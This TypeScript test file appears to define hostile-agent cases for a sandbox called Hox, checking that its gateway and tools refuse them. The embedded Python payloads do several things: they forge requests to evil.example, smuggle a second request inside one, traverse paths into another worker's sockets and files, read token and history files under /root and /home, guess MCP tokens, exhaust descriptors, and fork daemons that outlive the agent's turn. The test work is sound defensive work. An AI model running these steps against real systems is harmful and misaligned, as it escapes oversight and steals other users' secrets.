import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import type { Case, Family, Verdict } from "../case.ts";
import { failed, refused } from "../case.ts";
import {
  type ExternalAgent,
  type ExternalAgentOptions,
  openExternalAgent,
  type Step,
} from "../external-agent.ts";
import { python, withoutPython } from "../programs.ts";
import type { TestBed } from "../test-bed.ts";
import { openSockets, untilThere } from "../waiting.ts";

const agents = new WeakMap<TestBed, ExternalAgent>();

export interface AgentAttack extends ExternalAgentOptions, Partial<Omit<Case, "attack" | "judge">> {
  /** What the agent does with each of its prompts, and what is done to it. Default: one turn, and its end. */
  readonly prompts: (testBed: TestBed) => readonly (readonly Step[])[];
  readonly attack?: (agent: ExternalAgent, testBed: TestBed) => Promise<unknown>;
  readonly judge?: (agent: ExternalAgent, testBed: TestBed) => Verdict;
}

/** An attack by an agent of another make, which writes "tried" at its end. */
export const agentCase = (name: string, attacked: AgentAttack): Case => {
  const { prompts, attack, judge, limits, killMs, login, ...more } = attacked;
  return {
    source: "own",
    impossible: withoutPython,
    ...more,
    name,
    attack: async (testBed) => {
      const agent = await openExternalAgent(testBed, prompts(testBed), {
        ...(limits ? { limits } : {}),
        ...(killMs === undefined ? {} : { killMs }),
        ...(login === undefined ? {} : { login }),
      });
      agents.set(testBed, agent);
      testBed.settle();
      try {
        await (attack ? attack(agent, testBed) : agent.turn());
      } finally {
        const isClosed = await agent.close();
        agent.show();
        if (isClosed === null) testBed.survivors.push("its end was never over");
      }
    },
    judge: (testBed) => {
      const agent = agents.get(testBed);
      if (!agent || !testBed.seen.includes("tried")) return failed("the attack did not run");
      if (agent.strangers.length > 0) return failed(`reached another worker: ${agent.strangers[0]}`);
      return judge?.(agent, testBed) ?? refused;
    },
  };
};

/** A request that an honest agent sends. */
export const honest: Step = {
  model: "/v1/messages",
  body: {
    ...{ model: "claude-sonnet-5-5", max_tokens: 10, stream: true },
    messages: [{ role: "user", content: "honest" }],
  },
};

/** A program of the agent, with ways to speak to its gateway; `found.txt` has what it got to see. */
export const attackWith = (body: string): Step => ({
  run: `${python(`
import glob, json, urllib.request
found = open("found.txt", "ab", 0)
gateway, tools = "/run/hox-agent/out/gateway", "/run/hox-agent/out/tools"
bridge = int(os.environ["MODEL_URL"].split(":")[-1])
message = {"model": "claude-sonnet-5-5", "max_tokens": 10, "stream": True, "messages": [{"role": "user", "content": "attack"}]}
patience = 5
def connected(path):
    s = socket.socket(socket.AF_UNIX) if isinstance(path, str) else socket.socket()
    s.settimeout(patience)
    s.connect(path if isinstance(path, str) else ("127.0.0.1", path))
    return s
def ask(path, text):
    try:
        s = connected(path)
        s.sendall(text.encode("latin1") if isinstance(text, str) else text)
        while True:
            part = s.recv(65536)
            if not part: break
            found.write(part)
    except OSError as problem: found.write(str(problem).encode())
def post(target, body, more="", path=gateway, method="POST"):
    text = json.dumps(body) if not isinstance(body, str) else body
    ask(path, "%s %s HTTP/1.1\\r\\nHost: a\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\n%s\\r\\n%s" % (method, target, len(text), more, text))
${body}
found.write(b"tried")
`)} || echo broke >> found.txt`,
});

/** The provider may get what is honest, and nothing that an attack wrote. */
const onlyHonest = ({ asked }: ExternalAgent): Verdict => {
  const messages = asked.filter(({ url }) => url.split("?")[0] === "/v1/messages");
  const others = asked.find(({ method, url }) => method !== "GET" && url.split("?")[0] !== "/v1/messages");
  if (!messages.some(({ body }) => body.includes("honest"))) return failed("an honest request was refused");
  if (others) return failed(`reached ${others.method} ${others.url}`);
  const told = asked.map((one) => JSON.stringify(one)).find((text) => text.includes("EVIL"));
  return told === undefined ? refused : failed(`the provider was told ${told.slice(0, 80)}`);
};

/** A process that is left behind and asks again and again, each time on another connection, a list of models among them. */
const leavesRequests: Step = attackWith(`
if os.fork() == 0:
    os.setsid()
    if os.fork() > 0: os._exit(0)
    os.close(1); os.close(2)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    open("asks", "w")
    while True:
        post("/v1/messages", message); post("/v1/messages", message, path=bridge)
        post("/v1/models", "", method="GET")
        time.sleep(0.02)
while not os.path.exists("asks"): time.sleep(0.01)`);

export const agentGateway: Family = {
  name: "gateway of other agents",
  cases: [
    agentCase("forged-requests-to-its-gateway", {
      prompts: () => [
        [
          honest,
          attackWith(`
for path in (gateway, bridge):
    for target in ("/v1/files", "/v1/messages/batches", "/v1/messages/../organizations", "/v1/messages%2f..%2ffiles", "/v1//messages/batches",
                   "http://evil.example/v1/EVIL", "//evil.example/v1/messages/EVIL", "/EVIL", "*", "/v1/complete", "/v1/messages;EVIL", "/V1/MESSAGES"):
        for method in ("POST", "GET", "PUT", "DELETE", "PATCH", "OPTIONS"): post(target, message, path=path, method=method)
    post("/v1/messages?key=EVIL&beta=EVIL", message, "x-api-key: EVIL\\r\\nAuthorization: Bearer EVIL\\r\\nX-Forwarded-Host: EVIL\\r\\nCookie: EVIL\\r\\nx-EVIL: 1\\r\\nProxy-Authorization: EVIL\\r\\n", path=path)
    ask(path, "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n")
    ask(path, "GET /v1/messages HTTP/1.1\\r\\nHost: a\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n")`),
        ],
      ],
      judge: onlyHonest,
    }),
    agentCase("a-second-request-hidden-in-one", {
      prompts: () => [
        [
          honest,
          attackWith(`
inner = "POST /v1/EVIL HTTP/1.1\\r\\nHost: EVIL\\r\\nContent-Length: 0\\r\\n\\r\\n"
text = json.dumps(message)
for more in ("Content-Length: 4\\r\\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: EVIL", "Content-Length: 0\\r\\nContent-Length: 9", "Content-Length: %d" % len(text), "Content-Length : %d" % len(text), "Transfer-Encoding:\\x0bchunked"):
    ask(gateway, "POST /v1/messages HTTP/1.1\\r\\nHost: a\\r\\n%s\\r\\n\\r\\n" % more + (text if "%d" % len(text) in more else "0\\r\\n\\r\\n") + inner)`),
        ],
      ],
      judge: onlyHonest,
    }),
    agentCase("work-that-the-provider-would-do", {
      prompts: () => [
        [
          honest,
          attackWith(`
def with_(**more): post("/v1/messages", dict(message, **more))
for kind in ("web_search_20250305", "web_fetch_20250910", "code_execution_20250825", "mcp_toolset", "advisor_20260301", "EVIL"):
    with_(tools=[{"type": kind, "name": "EVIL"}, {"name": "own", "input_schema": {"type": "object"}}])
with_(mcp_servers=[{"type": "url", "url": "https://EVIL.example", "name": "EVIL"}])
with_(container="EVIL"), with_(service_tier="EVIL"), with_(fallbacks=["EVIL"]), with_(inference_geo="EVIL"), with_(speed="EVIL")
with_(messages=[{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://EVIL.example/x.png"}}]}])
with_(messages=[{"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": "https://EVIL.example/x.pdf"}}]}])
with_(model="model-EVIL"), with_(model=["EVIL"])
post("/v1/messages", message, "anthropic-beta: mcp-client-EVIL,code-execution-EVIL,files-api-EVIL\\r\\n")`),
        ],
      ],
      judge: onlyHonest,
    }),
    agentCase("a-provider-that-repeats-the-key", {
      // The stand-in does: in its answer's text, in pieces, and in its headers. What is seen is judged anyway.
      prompts: () => [[honest, attackWith('post("/v1/messages", message)'), { say: "tried" }]],
      judge: ({ asked }, testBed) =>
        testBed.seen.includes("ANSWERED") && asked.length === 2 ? refused : failed("the attack did not run"),
    }),
    agentCase("the-sockets-of-another-worker", {
      prompts: (testBed) => [
        [
          attackWith(`
other = ${JSON.stringify(join(testBed.otherAgent, "s"))}
ways = [other, "/run/hox-agent/out/../../../other/s", "/run/hox-agent/in/../../other/s", "/proc/1/root" + other, "/proc/1/cwd/../other/s", "/run/hox-agent/out/..", "/run/hox-agent"]
os.symlink(other, "/run/hox-agent/in/link")
for way in ways + ["/run/hox-agent/in/link"]:
    for name in glob.glob(way + "/**", recursive=True) + [way + end for end in ("/out/gateway", "/out/tools", "/in/runner")]:
        if name in (gateway, tools, "/run/hox-agent/in/runner"): continue
        ask(name, "GET /v1/models HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
        try: found.write(open(name, "rb").read(4096))
        except OSError: pass
for name in ("gateway", "tools", "proxy", "runner"): ask("\\0" + name, "x")
for port in (22, 80, 443, 3128, 8080): ask(port, "GET / HTTP/1.1\\r\\n\\r\\n")`),
        ],
      ],
    }),
    agentCase("the-files-of-another-worker", {
      prompts: (testBed) => [
        [
          attackWith(`
around, other = ${JSON.stringify([testBed.folder, testBed.otherAgent])}
for folder, folders, names in os.walk("/run"):
    folders[:] = [name for name in folders if name != "node_modules"]
    for name in names:
        try:
            if os.path.isfile(folder + "/" + name): found.write(open(folder + "/" + name, "rb").read(4096))
        except OSError: pass
for top in (around, other, around + "/state", around + "/sibling", "/sandbox", "/root", "/home", "/run/hox-agent/out/../..", os.getcwd() + "/.."):
    for name in glob.glob(top + "/*") + glob.glob(top + "/*/*") + glob.glob(top + "/.*/*") + [top + "/" + end for end in ("token", "runner.json", "home/.claude/history", "journal.sqlite", "work.txt")]:
        if name.startswith(os.getcwd() + "/") or not os.path.isfile(name): continue
        try: found.write(open(name, "rb").read(4096))
        except OSError: pass`),
        ],
      ],
    }),
    agentCase("tools-without-its-token", {
      prompts: () => [
        [
          { mcp: "note", input: { text: "honest" } },
          attackWith(`
patience = 0.5
call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "note", "arguments": {"text": "EVIL"}}}
accept = "Accept: application/json, text/event-stream\\r\\nConnection: close\\r\\n"
own = os.environ["MCP_TOKEN"]
for token in ("", "EVIL", own[:-1], own.upper(), "Bearer", own[::-1]):
    post("/mcp", call, accept + "Authorization: Bearer %s\\r\\n" % token, tools)
    post("/mcp?token=" + own, call, accept + "x-api-key: %s\\r\\nCookie: %s\\r\\n" % (own, own), tools)
post("/mcp", call, accept + "Authorization: Basic %s\\r\\n" % own, tools)`),
        ],
      ],
      judge: ({ noted }) =>
        noted.join() === "honest" ? refused : failed(`Hox's tool was called: ${noted.join()}`),
    }),
    agentCase("more-connections-than-hox-has-descriptors", {
      prompts: () => [
        [
          attackWith(`
open_ = []
import resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
for path in (gateway, tools):
    for index in range(1500):
        try:
            s = connected(path); s.sendall(b"POST /mcp HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 9\\r\\n"); open_.append(s)
        except OSError as problem: break
open("flooded", "w")
time.sleep(1.5)`),
        ],
      ],
      attack: async (agent, testBed) => {
        const before = openSockets();
        const turn = agent.turn();
        await untilThere(testBed.inside("flooded"));
        await pause(500);
        testBed.note = String(openSockets() - before);
        await turn;
      },
      judge: (_, { note }) => (Number(note) < 200 ? refused : failed(`Hox held ${note} connections`)),
    }),
    agentCase("requests-after-its-turn", {
      prompts: () => [[honest, leavesRequests], [], []],
      attack: async (agent, testBed) => {
        await agent.turn();
        const asked = agent.asked.length;
        await untilThere(testBed.inside("asks"));
        await pause(400);
        testBed.note = `${agent.asked.length - asked} requests after its turn`;
      },
      judge: ({ asked, refused: told }, { note }) =>
        note !== "0 requests after its turn"
          ? failed(note)
          : told.some(({ reason }) => reason === "turn") && asked.length > 0
            ? refused
            : failed("the attack did not run"),
    }),
    agentCase("requests-of-a-worker-that-is-paused", {
      prompts: () => [[honest, leavesRequests, { wait: "go" }]],
      attack: async (agent, testBed) => {
        const turn = agent.turn();
        await untilThere(testBed.inside("asks"));
        // Its call is over by then, which would end the turn as well.
        await pause(1_000);
        agent.gate = "pause";
        await pause(100);
        const asked = agent.asked.length;
        await turn;
        await pause(300);
        testBed.note = `${agent.asked.length - asked} requests while paused`;
      },
      judge: (_, { note }) => (note === "0 requests while paused" ? refused : failed(note)),
    }),
    agentCase("requests-after-its-end", {
      prompts: () => [[honest, leavesRequests]],
      attack: async (agent, testBed) => {
        await agent.turn();
        await agent.close();
        const asked = agent.asked.length;
        await pause(300);
        testBed.note = `${agent.asked.length - asked} requests after its end`;
      },
      judge: (_, { note }) => (note === "0 requests after its end" ? refused : failed(note)),
    }),
  ],
};
